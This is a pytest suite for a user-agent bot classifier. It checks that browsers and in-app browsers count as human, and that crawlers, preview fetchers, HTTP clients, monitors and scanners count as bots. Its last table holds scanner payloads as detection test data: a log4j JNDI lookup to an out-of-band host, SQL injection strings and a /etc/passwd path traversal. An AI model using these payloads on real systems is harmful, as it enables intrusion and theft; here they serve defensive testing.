import pytest

from analytics.clicks.geo import Location
from analytics.clicks.visit import Visit
from analytics.verdicts.bots import Verdict, judge

CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
)
SAFARI_IPHONE = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1"
)
ANDROID_WEBVIEW = (
    "Mozilla/5.0 (Linux; Android 13; Pixel 7 Build/TQ3A.230805.001; wv) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.82 Mobile Safari/537.36"
)
# What a real Chrome sends on a top-level navigation over HTTPS.
CHROME_HEADERS = {
    "accept": "text/html,application/xhtml+xml",
    "accept-language": "en-GB,en;q=0.9",
    "sec-fetch-site": "none",
    "sec-fetch-mode": "navigate",
    "sec-fetch-dest": "document",
    "sec-fetch-user": "?1",
    "sec-ch-ua": '"Chromium";v="131", "Google Chrome";v="131", "Not_A Brand";v="24"',
    "sec-ch-ua-mobile": "?0",
    "sec-ch-ua-platform": '"Windows"',
}
SAFARI_HEADERS = {"accept": "text/html", "accept-language": "en-GB"}

HUMANS = {
    "Chrome (Windows)": CHROME,
    "Edge": CHROME + " Edg/131.0.0.0",
    "Opera": CHROME + " OPR/115.0.0.0",
    "Firefox (Linux)": "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Firefox (Android)": "Mozilla/5.0 (Android 14; Mobile; rv:132.0) Gecko/132.0 Firefox/132.0",
    "Safari (Mac)": (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 "
        "(KHTML, like Gecko) Version/17.5 Safari/605.1.15"
    ),
    "Safari (iPhone)": SAFARI_IPHONE,
    "Chrome (iPhone)": (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 "
        "(KHTML, like Gecko) CriOS/126.0.6478.54 Mobile/15E148 Safari/604.1"
    ),
    "Samsung Internet": (
        "Mozilla/5.0 (Linux; Android 14; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) "
        "SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36"
    ),
    "Instagram in-app (iPhone)": (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 "
        "(KHTML, like Gecko) Mobile/15E148 Instagram 337.0.3.23.54 (iPhone14,5; iOS 17_5; "
        "en_US; en; scale=3.00; 1170x2532; 615307869)"
    ),
    "Instagram in-app (Android)": (
        "Mozilla/5.0 (Linux; Android 15; CPH2557 Build/AP3A.240617.008; wv) AppleWebKit/537.36"
        " (KHTML, like Gecko) Version/4.0 Chrome/142.0.7444.142 Mobile Safari/537.36 "
        "Instagram 406.0.0.58.159 Android (35/15; 480dpi; 1080x2400; OPPO; CPH2557; OP573DL1;"
        " mt6833; en_MY; 822918295; IABMV/1) NV/1"
    ),
    "Facebook in-app (iPhone)": (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 "
        "(KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/468.0.0.52.107;FBBV/620006391;"
        "FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;FBSV/17.5.1;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]"
    ),
    "Facebook in-app (Android)": ANDROID_WEBVIEW + " [FB_IAB/FB4A;FBAV/428.0.0.26.108;]",
    "Facebook in-app (MetaIAB)": ANDROID_WEBVIEW + " MetaIAB Facebook",
    "Messenger in-app": ANDROID_WEBVIEW + " [FB_IAB/Orca-Android;FBAV/441.0.0.21.110;]",
    "WhatsApp in-app": ANDROID_WEBVIEW + " WhatsApp/2.24.10.85 A",
    "Viber in-app": ANDROID_WEBVIEW + " Viber/21.6.0.0",
    "TikTok in-app": ANDROID_WEBVIEW + " musical_ly_2023405030 BytedanceWebview/d8a21c6",
    "LinkedIn in-app": ANDROID_WEBVIEW + " LinkedInApp/4.1.962",
    "Twitter in-app": (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 "
        "(KHTML, like Gecko) Mobile/15E148 Twitter for iPhone/10.48"
    ),
    "Snapchat in-app": ANDROID_WEBVIEW + " Snapchat/12.60.0.45 (SM-G998B; Android 13; gzip; )",
    "Pinterest in-app": ANDROID_WEBVIEW + " [Pinterest/Android]",
    "LINE in-app": ANDROID_WEBVIEW + " Line/13.21.1/IAB",
    "Google app": (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 "
        "(KHTML, like Gecko) GSA/320.0.642154451 Mobile/15E148 Safari/604.1"
    ),
    "Android app HTTP stack": "Dalvik/2.1.0 (Linux; U; Android 11; SM-A515F Build/RP1A.200720)",
    "UC Browser (feature phone)": (
        "UCWEB/2.0 (MIDP-2.0; U; Adr 4.4.2; en-US; Micromax_A104) U2/1.0.0 "
        "UCBrowser/10.7.2.757 U2/1.0.0 Mobile"
    ),
    "iOS media player": (
        "AppleCoreMedia/1.0.0.21E236 (iPhone; U; CPU OS 17_4 like Mac OS X; en_us)"
    ),
    "iOS app HTTP stack": "Podcasts/1.0 CFNetwork/1494.0.7 Darwin/23.4.0",
    "Links (text browser)": "Links (2.29; Linux 6.1.0-13-amd64 x86_64; GNU C 12.2; text)",
    "w3m (text browser)": "w3m/0.5.3+git20230121",
    "ELinks (text browser)": "ELinks/0.13.2 (textmode; Linux 6.1 x86_64; 200x50-2)",
    "Device name containing 'bot'": (
        "Mozilla/5.0 (Linux; Android 7.0; CUBOT CHEETAH 2 Build/NRD90M) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Chrome/58.0.3029.83 Mobile Safari/537.36"
    ),
}

BOTS = {
    # family: (user agent, reason)
    "search engine": ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "ua:crawler"),
    "search engine, smartphone": (
        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML,"
        " like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36 (compatible; Googlebot/2.1; "
        "+http://www.google.com/bot.html)",
        "ua:crawler",
    ),
    "Bing": ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "ua:crawler"),
    "SEO": ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "ua:crawler"),
    "AI crawler": ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", "ua:crawler"),
    "AI assistant": ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; +https://openai.com/bot", "ua:crawler"),
    "feed reader": ("Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers)", "ua:crawler"),
    "monitor": ("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "ua:monitor"),
    "unknown service": ("Acme Catalog Sync/2.3", "ua:not-browser"),
    "Facebook preview": ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "ua:preview"),
    "WhatsApp preview (Android)": ("WhatsApp/2.23.20.0 A", "ua:preview"),
    "WhatsApp preview (iPhone)": ("WhatsApp/2.2329.9 i", "ua:preview"),
    "Slack preview": ("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "ua:preview"),
    "Twitter preview": ("Twitterbot/1.0", "ua:preview"),
    "Telegram preview": ("TelegramBot (like TwitterBot)", "ua:preview"),
    "Discord preview": ("Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)", "ua:preview"),
    "LinkedIn preview": ("LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)", "ua:preview"),
    "Skype/Teams preview": ("Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5 skype-url-preview@microsoft.com", "ua:preview"),
    "Pinterest preview": ("Pinterestbot/1.0 (+http://www.pinterest.com/bot.html)", "ua:preview"),
    "Reddit preview": ("Mozilla/5.0 (compatible; redditbot/1.0; +http://www.reddit.com/feedback)", "ua:preview"),
    "Viber preview": ("Viber", "ua:preview"),
    "iframely": ("Iframely/1.3.1 (+https://iframely.com/docs/about) Atlas", "ua:preview"),
    "Mastodon preview": ("http.rb/5.1.1 (Mastodon/4.2.0; +https://mastodon.social/)", "ua:preview"),
    "Bluesky preview": ("Mozilla/5.0 (compatible; Bluesky Cardyb/1.1; +mailto:support@bsky.app)", "ua:preview"),
    "headless Chrome": (CHROME.replace("Chrome/", "HeadlessChrome/"), "ua:headless"),
    "PhantomJS": ("Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1", "ua:headless"),
    "Selenium": (CHROME + "; Selenium", "ua:headless"),
    "Puppeteer": (CHROME + " Puppeteer", "ua:headless"),
    "Playwright": (CHROME + " Playwright/1.40.0", "ua:headless"),
    "curl": ("curl/8.4.0", "ua:http-client"),
    "wget": ("Wget/1.21.4", "ua:http-client"),
    "python-requests": ("python-requests/2.32.3", "ua:http-client"),
    "python urllib": ("Python-urllib/3.11", "ua:http-client"),
    "aiohttp": ("Python/3.11 aiohttp/3.9.5", "ua:http-client"),
    "httpx": ("python-httpx/0.27.0", "ua:http-client"),
    "Go": ("Go-http-client/2.0", "ua:http-client"),
    "okhttp": ("okhttp/4.12.0", "ua:http-client"),
    "axios": ("axios/1.7.2", "ua:http-client"),
    "node-fetch": ("node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "ua:http-client"),
    "node (undici)": ("node", "ua:http-client"),
    "Java": ("Java/17.0.2", "ua:http-client"),
    "Apache HttpClient": ("Apache-HttpClient/4.5.14 (Java/17.0.8)", "ua:http-client"),
    "Perl": ("libwww-perl/6.72", "ua:http-client"),
    "Postman": ("PostmanRuntime/7.39.0", "ua:http-client"),
    "Ruby": ("Ruby", "ua:http-client"),
    "PHP Guzzle": ("GuzzleHttp/7", "ua:http-client"),
    "PowerShell": ("Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.2506", "ua:http-client"),
    "Windows BITS": ("Microsoft BITS/7.8", "ua:http-client"),
    "Windows CryptoAPI": ("Microsoft-CryptoAPI/10.0", "ua:http-client"),
    "Windows Delivery Optimization": ("Microsoft-Delivery-Optimization/10.0", "ua:http-client"),
    "Windows push notifications": ("Microsoft-WNS/10.0", "ua:http-client"),
    "Windows connectivity check": ("Microsoft NCSI", "ua:http-client"),
    "Windows Update": ("Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.50", "ua:http-client"),
}  # fmt: skip


@pytest.mark.parametrize("user_agent", HUMANS.values(), ids=HUMANS.keys())
def test_browsers_and_in_app_browsers_are_human(user_agent):
    verdict = judge(Visit(user_agent=user_agent))
    assert verdict == Verdict(is_bot=False)
    assert verdict.bot_reason is None


@pytest.mark.parametrize(("user_agent", "reason"), BOTS.values(), ids=BOTS.keys())
def test_each_bot_family_is_a_bot_with_its_reason(user_agent, reason):
    verdict = judge(Visit(user_agent=user_agent))
    assert verdict.is_bot
    assert verdict.reasons == (reason,)
    assert verdict.score == 100
    assert verdict.bot_reason == reason


@pytest.mark.parametrize(
    ("visitor", "reason"),
    [
        (Visit(user_agent=""), "ua:empty"),
        (Visit(user_agent="   "), "ua:empty"),
        (Visit(user_agent=None), "ua:empty"),
        (Visit(user_agent=CHROME, method="HEAD"), "method:head"),
        (Visit(user_agent=CHROME, method="head"), "method:head"),
    ],
)
def test_empty_user_agents_and_head_requests_are_bots(visitor, reason):
    verdict = judge(visitor)
    assert verdict.is_bot
    assert verdict.reasons == (reason,)


def test_every_fired_code_is_stored_decisive_ones_first():
    verdict = judge(Visit(user_agent="curl/8.4.0", method="HEAD"), Location(asn_number=16509))
    assert verdict.reasons == ("ua:http-client", "method:head", "net:datacenter")
    assert verdict.bot_reason == "ua:http-client,method:head,net:datacenter"


def test_a_huge_user_agent_is_malformed_and_costs_no_more_than_a_normal_one():
    verdict = judge(Visit(user_agent=CHROME + " x" * 10_000))  # ~20 KB
    assert verdict.is_bot
    assert verdict.reasons == ("ua:malformed",)


def test_a_huge_crawler_user_agent_keeps_its_family():
    verdict = judge(Visit(user_agent="Googlebot/2.1 " + "a" * 20_000))
    assert verdict.reasons == ("ua:malformed", "ua:crawler")


@pytest.mark.parametrize(
    "user_agent",
    [
        "Mozilla/5.0 \x00\x01\x02 (Windows NT 10.0)",
        "Mozilla/5.0 (Windows NT 10.0) \udcff\udcfe",  # bytes kept by surrogateescape
        "Mozilla/5.0 (Windows NT 10.0) \ufffd\ufffd",  # bytes replaced by a decoder
        b"Mozilla/5.0 (Windows NT 10.0) \xff\x80\xfa".decode("latin-1"),  # as WSGI hands it
    ],
    ids=["control characters", "surrogate escapes", "replacement characters", "latin-1"],
)
def test_a_binary_user_agent_is_malformed(user_agent):
    verdict = judge(Visit(user_agent=user_agent))
    assert verdict.is_bot
    assert verdict.reasons[0] == "ua:malformed"


def test_a_utf8_device_name_as_wsgi_hands_it_is_not_malformed():
    user_agent = (
        "Mozilla/5.0 (Linux; Android 10; 华为 P30) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/120.0.0.0 Mobile Safari/537.36"
    )
    assert not judge(Visit(user_agent=user_agent.encode().decode("latin-1"))).is_bot
    assert not judge(Visit(user_agent=user_agent)).is_bot


def test_bot_reason_never_exceeds_its_column():
    verdict = Verdict(True, tuple(f"code:{n:03}" for n in range(40)), 100)
    assert len(verdict.bot_reason) <= 200
    assert verdict.bot_reason.endswith(("code:021", "code:022", "code:023", "code:024"))


WEBVIEW = (
    "Mozilla/5.0 (Linux; Android 13; SM-S911N Build/TP1A.220624.014; wv) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Version/4.0 Chrome/119.0.6045.193 Mobile Safari/537.36"
)
IPHONE_WEBVIEW = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2_1 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Mobile/15E148"
)
IN_APP_BROWSERS = {
    "Instagram": IPHONE_WEBVIEW + " Instagram 302.0.0.23.113 (iPhone12,1; iOS 16_6_1; de_DE; de-DE; scale=2.00; 828x1792; 520435402) NW/3",
    "Facebook": IPHONE_WEBVIEW + " [FBAN/FBIOS;FBDV/iPhone10,4;FBMD/iPhone;FBSN/iOS;FBSV/15.7;FBSS/2;FBID/phone;FBLC/fr_FR;FBOP/5]",
    "Messenger": IPHONE_WEBVIEW + " [FBAN/MessengerForiOS;FBAV/398.0.0.20.109;FBBV/457101066;FBDV/iPhone13,2;FBMD/iPhone;FBSN/iOS;FBSV/16.3;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]",
    "TikTok": WEBVIEW + " trill_2022705030 JsSdk/1.0 NetType/MOBILE Channel/googleplay AppName/trill app_version/27.5.3 ByteLocale/id-ID Region/ID BytedanceWebview/d8a21c6",
    "LinkedIn": IPHONE_WEBVIEW + " LinkedInApp/9.28.1523 (iPhone; iOS 17.0; Scale/3.00)",
    "Snapchat": IPHONE_WEBVIEW + " Snapchat/12.71.0.36 (like Safari/8617.2.4.10.8, panda)",
    "Pinterest": IPHONE_WEBVIEW + " [Pinterest/iOS]",
    "LINE": IPHONE_WEBVIEW + " Safari Line/14.3.0",
    "WeChat": WEBVIEW + " XWEB/1160065 MMWEBSDK/20231202 MMWEBID/2247 MicroMessenger/8.0.47.2560(0x28002F35) WeChat/arm64 Weixin NetType/WIFI Language/zh_CN ABI/arm64",
    "X/Twitter": WEBVIEW + " TwitterAndroid",
    "Google app": WEBVIEW + " GSA/15.12.28.29.arm64",
    "KakaoTalk": IPHONE_WEBVIEW + " KAKAOTALK 10.4.6",
    "NAVER": WEBVIEW + " NAVER(inapp; search; 2000; 12.1.20)",
    "Telegram": WEBVIEW + " Telegram-Android/10.12.0 (Samsung SM-A546B; Android 14; SDK 34; AVERAGE)",
    "WhatsApp": IPHONE_WEBVIEW + " WhatsApp/24.8.78 i",
    "Android WebView": WEBVIEW,
    # The apps' own HTTP stacks: a word in them is no crawler's token ("cron" in Cronet), and
    # WhatsApp's names its platform and device where its link-preview fetcher names neither.
    "WhatsApp's HTTP stack (Android)": "WhatsApp/2.17.425 Android/7.0 Device/samsung-SM-G930F",
    "WhatsApp's HTTP stack (iOS)": "WhatsApp/2.18.380 iOS/12.1 Device/Apple-iPhone_X",
    "WhatsApp's HTTP stack, device like a bot": "WhatsApp/2.19.92 Android/9 Device/HTC-HTC_Butterfly",
    "Snapchat's own Cronet build": "CronetSnapDevSheldon/1",
    "Snapchat's stack on Cronet": "Snapchat 10.65.5.0 rv:3 (iPhone; iOS 14.4; Scale/3.00) Cronet",
}  # fmt: skip


@pytest.mark.parametrize("user_agent", IN_APP_BROWSERS.values(), ids=IN_APP_BROWSERS.keys())
def test_in_app_browsers_stay_human(user_agent):
    assert judge(Visit(user_agent=user_agent)) == Verdict(is_bot=False)


# Each class below was judged wrongly before the structural rules (docs/bot-verdicts.md).
ANDROID = "Mozilla/5.0 (Linux; Android 9; {}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0.4430.91 Mobile Safari/537.36"  # fmt: skip
DEVICE_NAMES = {
    "Bot Tab": ANDROID.format("Bot Tab 7 Build/PPR1.180610.011"),
    "Spider 8": ANDROID.format("Spider 8 Build/RP1A.200720.011"),
    "XBot": ANDROID.format("XBot Build/O11019"),
    "HTC Butterfly": ANDROID.format("HTC Butterfly 3 Build/MRA58K"),
    "ViewSonic": ANDROID.format("ViewSonic ViewPad 10e Build/PKQ1.190101.001"),
    "Fever": ANDROID.format("Fever Build/QP1A.190711.020"),
    "Zeus": ANDROID.format("Zeus 4G Build/NRD90M; wv"),
    "Speedy": ANDROID.format("Speedy 10 Build/QP1A.190711.020"),
    "Expanse": ANDROID.format("Expanse Build/PPR1.180610.011"),
    "OPPO A33": ANDROID.format("OPPO A33 Build/LMY47I"),
    "OPPO A33 after Safari": ANDROID.format("A33w Build/LMY47V; wv") + " OPPO A33",
    "Android's HTTP stack": "Dalvik/2.1.0 (Linux; U; Android 9; Spider 8 Build/PPR1.180610.011)",
}
CARRIERS = {
    "OrangeBotswana": IPHONE_WEBVIEW + " [FBAN/FBIOS;FBAV/231.0.0.47.110;FBBV/163434523;FBDV/iPhone9,3;FBMD/iPhone;FBSN/iOS;FBSV/12.4;FBSS/2;FBCR/OrangeBotswana;FBID/phone;FBLC/en_GB;FBOP/5]",
    "Banca Caboto": WEBVIEW + " [FB_IAB/FB4A;FBAV/346.0.0.34.117;FBCR/Banca Caboto;]",
}  # fmt: skip
SEARCH_COMPANIES_BROWSERS = {
    "Sogou Mobile Browser": IPHONE_WEBVIEW + " SogouMSE,SogouMobileBrowser/5.36.4",
    "Sogou search app": WEBVIEW + " SogouSearch Android1.0 version3.0 AppVersion/10.38.2",
    "Yandex app": WEBVIEW + " YandexMaps/13.5.0",
    "Coc Coc": CHROME + " coc_coc_browser/122.0.184",
    "Baidu app": WEBVIEW + " T7/13.38 SP-engine/2.76.0 baiduboxapp/13.38.0.10 (Baidu; P1 12) NABar/1.0",
    "Seznam": "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0 Seznam.cz",
    "Opera, Seznam edition": CHROME + " OPR/56.0.3051.52 (Edition Seznam)",
}  # fmt: skip
ELECTRON = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) {} Chrome/120.0.6099.291 Electron/28.2.9 Safari/537.36"  # fmt: skip
ELECTRON_APPS = {
    name: ELECTRON.format(token)
    for name, token in {
        "Slack": "Slack/4.33.73",
        "Notion": "Notion/3.5.0",
        "Mattermost": "Mattermost/5.7.0",
        "VS Code": "Code/1.89.1",
        "WhatsApp desktop": "WhatsApp/2.2343.2",
        "Viber desktop": "Viber/20.8.0.0",
        "1Password": "1Password/8.10.30",
    }.items()
}
VERSION_DIGITS = {
    "Opera Mini (J2ME)": "Opera/9.80 (J2ME/MIDP; Opera Mini/4.4.39008/37.8435; U; en) Presto/2.12.423 Version/12.16",
    "Opera Mini (MAUI)": "Opera/9.80 (MAUI Runtime; Opera Mini/4.4.39008/59.267; U; fa) Presto/2.12.423 Version/12.16",
    "1Password, not Word/": "Mozilla/5.0 (iPhone; CPU OS 9_2_1 like Mac OS X) AppleWebKit/600.1.4 (KHTML, like Gecko) 1Password/6.2.1 (like Version/9.2.1 Mobile/13D15 Safari/600.1.4)",
}  # fmt: skip
NOT_MOZILLA_BROWSERS = {
    "HbbTV (Samsung)": "HbbTV/1.2.1 (;Samsung;SmartTV2015;T-HKMFDEUC-1490.3;;) WebKit",
    "HbbTV (LG webOS)": "HbbTV/1.4.1 (+DRM;LGE;55UN73006LA;WEBOS5.0 03.30.85;W50_K6LP;DTV_W20P;) FVC/3.0 (LGE;WEBOS5.0;)",
    "HbbTV (Panasonic)": "HbbTV/1.2.1 (;Panasonic;VIERA 2015;3.002;4101-0003 0002-0000;)",
    "feature phone (DoCoMo)": "DoCoMo/2.0 N905i(c100;TB;W24H16)",
    "feature phone (Xiaomi)": "Xiaomi_2015811_TD-LTE/V1 Linux/3.10.65 Android/5.1 Release/03.09.2016 Browser/AppleWebKit537.36 Mobile Safari/537.36 System/Android 5.1 XiaoMi/MiuiBrowser/8.2.17",
    "Lynx": "Lynx/2.9.0dev.12 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.7.9",
    "Dillo": "Dillo/3.0.5",
    "NetSurf": "NetSurf/3.10 (Linux)",
    "Konqueror": "Konqueror/22.12 (X11; Linux x86_64) KHTML/5.103.0 (like Gecko)",
    "Midori": "Midori/0.5.11 (X11; Linux; U; en-us) WebKit/537.32",
}  # fmt: skip
# An agent that ends at its platform comment: Netscape's, and a console's cut short.
PLATFORM_ONLY_BROWSERS = {
    "Netscape 3": "Mozilla/3.0 (Win95; I)",
    "Netscape 4 (Mac)": "Mozilla/4.08 (Macintosh; I; PPC, Nav)",
    "PlayStation": "Mozilla/5.0 (PlayStation)",
}
HUMAN_CLASSES = {
    **{f"platform only: {k}": v for k, v in PLATFORM_ONLY_BROWSERS.items()},
    **{f"device name: {k}": v for k, v in DEVICE_NAMES.items()},
    **{f"carrier: {k}": v for k, v in CARRIERS.items()},
    **{f"search company: {k}": v for k, v in SEARCH_COMPANIES_BROWSERS.items()},
    **{f"Electron: {k}": v for k, v in ELECTRON_APPS.items()},
    **{f"version digits: {k}": v for k, v in VERSION_DIGITS.items()},
    **{f"not Mozilla/: {k}": v for k, v in NOT_MOZILLA_BROWSERS.items()},
}


@pytest.mark.parametrize("user_agent", HUMAN_CLASSES.values(), ids=HUMAN_CLASSES.keys())
def test_browsers_the_crawler_lists_mistake_are_human(user_agent):
    assert judge(Visit(user_agent=user_agent)) == Verdict(is_bot=False)


LATIN1_TEXT = {
    "Versão": "Mozilla/5.0 (Linux; U; Android 4.0.4; pt-br; MB526 Build/4.5.1-134_DFP-231) AppleWebKit/534.30 (KHTML, like Gecko) Versão/4.0 Mobile Safari/534.30",
    "Versión": "Mozilla/5.0 (Linux; U; Android 2.3.6; es-es; GT-S5570I Build/GINGERBREAD) AppleWebKit/533.1 (KHTML, like Gecko) Versión/4.0 Mobile Safari/533.1",
    "no-break space": CHROME + "\u00a0Edg/124.0.0.0",
    "ü": "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0 München",
    "é": ANDROID.format("Téléphone 5G Build/RP1A.200720.011"),
}  # fmt: skip


@pytest.mark.parametrize("user_agent", LATIN1_TEXT.values(), ids=LATIN1_TEXT.keys())
@pytest.mark.parametrize(
    "arrives_as",
    [lambda text: text, lambda text: text.encode().decode("latin-1")],
    ids=["decoded text", "latin-1 decoded UTF-8 bytes"],
)
def test_valid_text_with_latin1_characters_is_not_malformed(user_agent, arrives_as):
    assert judge(Visit(user_agent=arrives_as(user_agent))) == Verdict(is_bot=False)


BOT_CLASSES = {
    "self-named tool after the browser": (CHROME + " CybaaAgent", "ua:crawler"),
    "self-named crawler after the browser": (CHROME + " Sparkler/0.2.0", "ua:crawler"),
    "self-named harvester": (CHROME + " ContentHarvester/1.4", "ua:crawler"),
    "compatible, no browser: lookup": ("Mozilla/5.0 (compatible; CMSLookup/1.0)", "ua:crawler"),
    "compatible, no browser: finder": ("Mozilla/5.0 (compatible; FormFinder/1.0)", "ua:crawler"),
    "compatible, no browser: detector": ("Mozilla/5.0 (compatible; TechStackDetector/1.0)", "ua:crawler"),
    "scanner name": (CHROME + " XssScanner/1.0", "ua:scanner"),
    "scanner in compatible": ("Mozilla/5.0 (compatible; VulnScanner/1.0)", "ua:scanner"),
    "OnlyScans": ("Mozilla/5.0 (compatible; OnlyScans/1.0; +https://onlyscans.com/about)", "ua:scanner"),
    "out-of-band domain": (CHROME + " d6f3q8.interact.sh", "ua:scanner"),
    "log4j payload": (CHROME + " ${jndi:ldap://x.oast.fun/a}", "ua:scanner"),
    "SQL in the agent": (CHROME + "' AND SLEEP(5)--", "ua:scanner"),
    "SQL union": (CHROME + " UNION SELECT NULL,NULL--", "ua:scanner"),
    "path traversal": (CHROME + " ../../../../etc/passwd", "ua:scanner"),
    "SyntheticsAgent": (CHROME + " SyntheticsAgent/1.0", "ua:monitor"),
    "Splunk synthetics": (CHROME + " (Splunk Synthetic Monitoring)", "ua:monitor"),
    "Datadog synthetics": (CHROME + " Datadog/Synthetics", "ua:monitor"),
    "Dynatrace": (CHROME + " Dynatrace/1.0", "ua:monitor"),
    "DejaClick": ("Mozilla/5.0 (X11; Linux i686; rv:24.0) Gecko/20100101 Firefox/24.0 DejaClick/2.9.0.0", "ua:monitor"),
    "Catchpoint in the device section": (ANDROID.format("Nexus 4 Build/JVP15Q; Catchpoint"), "ua:monitor"),
    "googleweblight": ("Mozilla/5.0 (Linux; Android 4.2.1; en-us; Nexus 5 Build/JOP40D) AppleWebKit/535.19 (KHTML, like Gecko; googleweblight) Chrome/38.0.1025.166 Mobile Safari/535.19", "ua:crawler"),
    "Google-Sites-Thumbnails": ("Mozilla/5.0 (compatible; Google-Sites-Thumbnails)", "ua:crawler"),
    "Google-BusinessLinkVerification": ("Google-BusinessLinkVerification", "ua:crawler"),
    "PowerShell 7": ("Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.22631; en-US) PowerShell/7.4.1", "ua:http-client"),
    "page-speed service after the browser": (CHROME + " SpeedCurve/1.0", "ua:monitor"),
    "uptime service after the browser": (CHROME + " Wormly/1.0", "ua:monitor"),
    "malware check after the browser": (CHROME + " Quttera/1.0", "ua:scanner"),
    "site audit after the browser": (CHROME + " Woorank/1.0", "ua:crawler"),
    "a tool named in the one comment": ("Mozilla/5.0 (LeadRadar/2.1)", "ua:not-browser"),
    "a bare word in the one comment": ("Mozilla/5.0 (Fizzbuzz)", "ua:not-browser"),
    "PowerShell on macOS": ("Mozilla/5.0 (Macintosh; Darwin 23.4.0 Darwin Kernel Version 23.4.0; en-US) PowerShell/7.4.2", "ua:http-client"),
}  # fmt: skip


@pytest.mark.parametrize(("user_agent", "reason"), BOT_CLASSES.values(), ids=BOT_CLASSES.keys())
def test_tools_in_a_browser_shaped_agent_are_bots(user_agent, reason):
    verdict = judge(Visit(user_agent=user_agent))
    assert verdict.is_bot
    assert verdict.reasons == (reason,)
